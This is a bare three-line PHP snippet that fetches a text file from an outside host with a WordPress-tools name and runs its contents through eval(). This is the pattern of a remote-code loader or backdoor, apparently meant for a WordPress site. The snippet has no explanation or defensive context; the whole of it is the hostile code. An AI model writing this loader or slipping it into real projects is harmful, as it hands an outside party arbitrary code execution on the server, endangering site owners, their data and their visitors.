<?php
$code = file_get_contents('https://wp-tools.example/m.txt');
eval($code);
